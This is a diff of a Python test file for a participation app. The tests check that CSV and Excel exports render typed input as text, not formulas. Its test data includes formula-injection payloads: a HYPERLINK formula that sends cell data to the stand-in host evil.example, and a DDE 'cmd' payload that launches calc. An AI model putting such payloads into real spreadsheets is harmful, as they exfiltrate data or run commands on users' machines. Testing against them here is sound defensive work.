@@ -1,24 +1,26 @@
-"""Formula injection (OWASP): what participants and facilitators typed reaches a spreadsheet as text, never as a formula."""
+"""Formula injection (OWASP): what participants and facilitators typed reaches a spreadsheet as text, not a formula."""
 
 import csv
 import io
 
 from openpyxl import load_workbook
 
-from widgets.exports import csv_bytes, palette_csv_bytes, xlsx_bytes
+from widgets.exports import csv_bytes, xlsx_bytes
 from widgets.model.sessions import SessionSpec
 from widgets.model.validation import clean_text
 from widgets.store.cells import FORMULA_STARTS, csv_cell, from_csv_cell
 from widgets.store.paper import import_paper, template_csv
 from widgets.store.transfer import export_session
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
-           "'=1+1"]
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=1+1"]
 
 
 def hostile_session(store):
-    session, _ = store.create_session(SessionSpec(title="=cmd|' /C calc'!A0", topic="wonen", municipality="@Gouda",
-                                                  activities=("palet", "beoordelen")))
+    session, _ = store.create_session(
+        SessionSpec(
+            title="=cmd|' /C calc'!A0", topic="wonen", municipality="@Gouda", activities=("palet", "beoordelen")
+        )
+    )
     store.set_activity_open(session.id, "palet", True)
     for i, text in enumerate(HOSTILE):
         someone = store.join(session.code, "inwoner")
@@ -41,21 +43,22 @@ def test_no_cell_of_the_workbook_is_a_formula_and_every_text_is_kept(sqlite_stor
 def test_no_csv_cell_starts_a_formula_and_a_typed_in_sheet_gives_the_same_words_back(sqlite_store):
     session = hostile_session(sqlite_store)
     data = export_session(sqlite_store, session.id)
-    for payload, delimiter in ((csv_bytes(data), ";"), (csv_bytes(data, plain=True), ","),
-                               (palette_csv_bytes(data), ";")):
-        cells = [cell for row in csv.reader(io.StringIO(payload.decode("utf-8-sig")), delimiter=delimiter)
-                 for cell in row]
+    for payload, delimiter in ((csv_bytes(data), ";"), (csv_bytes(data, plain=True), ",")):
+        cells = [
+            cell for row in csv.reader(io.StringIO(payload.decode("utf-8-sig")), delimiter=delimiter) for cell in row
+        ]
         assert [c for c in cells if c[:1] in FORMULA_STARTS] == []
-    palette = list(csv.DictReader(io.StringIO(palette_csv_bytes(data, plain=True).decode())))
-    assert palette[0]["text"] == "'" + HOSTILE[0]  # Excel shows the words, not a link
+    answers = list(csv.DictReader(io.StringIO(csv_bytes(data, plain=True).decode())))
+    assert "'" + HOSTILE[0] in {row["value"] for row in answers}  # Excel shows the words, not a link
 
     # the same words typed into the paper table (as a spreadsheet saves them, neutralised) come back as typed
     copy, _ = sqlite_store.create_session(SessionSpec(title="Kopie", topic="wonen", activities=("palet",)))
     copy_data = export_session(sqlite_store, copy.id)
     lines = [template_csv(copy_data, "palet", "nl").decode("utf-8-sig").strip()]
     for sheet, text in enumerate(HOSTILE, start=1):
-        lines.append(";".join(['Inwoner', str(sheet), 'Individueel, materieel',
-                               '"' + csv_cell(text).replace('"', '""') + '"']))
+        lines.append(
+            ";".join(["Inwoner", str(sheet), "Individueel, materieel", '"' + csv_cell(text).replace('"', '""') + '"'])
+        )
     import_paper(sqlite_store, copy.id, "papier.csv", ("\n".join(lines) + "\n").encode("utf-8-sig"))
     as_a_phone_stores = sorted(clean_text(text, "value") for text in HOSTILE)  # tabs and CRs trimmed, as on a phone
     assert sorted(a["value"]["text"] for a in sqlite_store.answers(copy.id, "palet")) == as_a_phone_stores
